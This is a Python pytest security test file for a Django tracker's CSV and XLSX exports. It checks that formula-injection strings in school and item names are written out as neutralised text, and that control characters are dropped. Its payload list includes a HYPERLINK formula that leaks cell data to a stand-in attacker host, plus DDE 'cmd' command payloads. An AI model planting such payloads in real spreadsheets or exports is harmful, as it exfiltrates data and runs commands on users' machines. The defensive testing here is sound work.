"""Formula injection (OWASP "CSV Injection") and hostile text in exports: every export route of the
schema, present and future, with names and titles that a spreadsheet would run as formulas or that hold
control characters. Text must come out as text: in CSV with a leading apostrophe, in XLSX as a string
cell (never a formula) with Excel's quote prefix; control characters dropped, never a 500."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from tests.security.openapi import operations
from tracker import models as m
from tracker.integrity.campaign_services import campaign_activate, campaign_create
from tracker.integrity.register_services import risk_create

pytestmark = pytest.mark.django_db

# Every way OWASP lists for a cell to start a formula, plus the forms that slip past naive checks.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_like(text: str) -> bool:
    return text.lstrip(" ").startswith(TRIGGERS)


def export_paths() -> list[str]:
    paths = sorted({op.path for op in operations() if op.path.startswith("/api/v1/exports/") and op.method == "get"})
    assert len(paths) >= 4, paths
    return paths


def integrity_texts(d, text: str) -> m.Campaign:
    """What the integrity exports show, under `text`: a bureau item titled `text` (stored as it is, as
    if written before input was checked), School A's risk point on it in this year's register, and an
    active campaign over the list (its results list the district's schools by name)."""
    item = m.ListItem.objects.create(unit=d.bureau, list="micro_power", code="-M1", title=text, category=text)
    risk_create(
        actor=d.school_a_user,
        school=d.school_a,
        item=item,
        post="leader",
        description="招生录取中优亲厚友",
        level="low",
        measures=["集体决策"],
    )
    campaign = campaign_create(
        actor=d.supervisor,
        authority=d.bureau,
        title="2026 自查自纠",
        lists=["micro_power"],
        due_at=timezone.now() + timedelta(days=30),
    )
    campaign_activate(actor=d.supervisor, campaign=campaign)
    return campaign


def export_params(path: str, d, *, rolled_up: bool = False) -> dict:
    """The query an export route needs: a cycle, or a campaign, or a school's register."""
    unit = {"unit": d.bureau.pk} if rolled_up else {}
    if path.endswith("/integrity/register.xlsx"):
        return {"school": d.school_a.pk}
    if "/integrity/" in path:
        return {"campaign": m.Campaign.objects.get(authority=d.bureau).pk, **unit}
    return {"cycle": d.cycle.pk, **unit}


@pytest.fixture
def hostile(district):
    """School, criterion and category names from the payload list, in the supervisor's district."""
    d = district
    d.school_a.name = PAYLOADS[0]
    d.school_a.save(update_fields=["name"])
    d.school_b.name = PAYLOADS[1]
    d.school_b.save(update_fields=["name"])
    d.criterion.code = "-C1"
    d.criterion.title = PAYLOADS[3]
    d.criterion.category = PAYLOADS[4]
    d.criterion.save(update_fields=["code", "title", "category"])
    for n, payload in enumerate(PAYLOADS[2:], start=2):
        school = m.Unit.objects.create(name=payload, code=f"HOSTILE{n}", kind=m.UnitKind.SCHOOL, parent=d.bureau)
        due = d.criterion.due_at
        m.Task.objects.create(
            cycle=d.cycle, criterion=d.criterion, school=school, due_at=due, original_due_at=due, due_set_at=due
        )
    integrity_texts(d, PAYLOADS[5])
    return d


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("path", export_paths())
@pytest.mark.parametrize("rolled_up", [False, True])
def test_exports_write_formula_like_text_as_text(hostile, client_for, path, rolled_up):
    response = client_for(hostile.supervisor).get(path, export_params(path, hostile, rolled_up=rolled_up))

    assert response.status_code == 200, response.content[:300]
    if path.endswith(".csv"):
        cells = csv_cells(response.content)
        live = [cell for cell in cells if formula_like(cell)]
        assert live == [], f"cells a spreadsheet would run as formulas: {live}"
        quoted = [cell for cell in cells if cell.startswith("'") and formula_like(cell[1:])]
        assert quoted, "the hostile names are in the file, neutralised"
        # Every field is quoted, so a separator inside a text never starts a new cell.
        first_data_line = response.content.decode("utf-8-sig").split("\r\n")[1]
        assert first_data_line.startswith('"') and first_data_line.endswith('"')
        return
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets_xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert not re.search(r"<f[ >]", sheets_xml), "no formula element in any sheet"
    workbook = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and formula_like(cell.value):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} lacks the quote prefix"
                    texts.append(cell.value)
    assert texts, "the hostile names are in the workbook, as text"


def test_the_school_names_survive_as_their_text(hostile, client_for):
    """Neutralising prefixes an apostrophe in CSV and keeps the text itself; XLSX keeps it unchanged."""
    client = client_for(hostile.supervisor)
    cells = csv_cells(client.get("/api/v1/exports/overview.csv", {"cycle": hostile.cycle.pk}).content)
    assert "'" + PAYLOADS[0] in cells
    assert "'-2+3" in cells
    xlsx = client.get("/api/v1/exports/overview.xlsx", {"cycle": hostile.cycle.pk}, HTTP_ACCEPT_LANGUAGE="en")
    sheet = load_workbook(io.BytesIO(xlsx.content))["Overview"]
    names = {row[2].value for row in sheet.iter_rows(min_row=2)}
    assert PAYLOADS[0] in names
    assert "-2+3" in names


@pytest.mark.parametrize("path", export_paths())
def test_control_characters_in_stored_names_never_break_an_export(district, client_for, path):
    """Names stored before input was checked (or by another path) still export: the controls are dropped."""
    district.school_a.name = "School\x0bA\x1b[31m\x01\x7f\x85"
    district.school_a.save(update_fields=["name"])
    district.criterion.title = "Title\x01\x02"
    district.criterion.save(update_fields=["title"])
    integrity_texts(district, "Item\x01\x02")

    response = client_for(district.supervisor).get(path, export_params(path, district))

    assert response.status_code == 200
    expected = "Title"
    if "overview" in path or path.endswith("/integrity/campaign.xlsx"):
        expected = "SchoolA[31m"
    elif path.endswith("/integrity/register.xlsx"):
        expected = "Item"
    if path.endswith(".csv"):
        cells = csv_cells(response.content)
        assert expected in cells
        assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cell) for cell in cells)
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        values = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
        assert expected in values


def test_no_module_but_the_export_writers_writes_csv_or_xlsx():
    """The neutralising lives in api/exports.py's two writers: a CSV or XLSX written anywhere else would
    bypass it. New exports call csv_bytes / xlsx_bytes."""
    root = Path(__file__).resolve().parents[2]
    writers = []
    for package in ("api", "tracker", "tasks", "web", "config"):
        for source in (root / package).rglob("*.py"):
            text = source.read_text(encoding="utf-8")
            if re.search(r"^\s*(import csv|from csv import|import openpyxl|from openpyxl)", text, re.M):
                writers.append(str(source.relative_to(root)))
    assert writers == ["api/exports.py"]
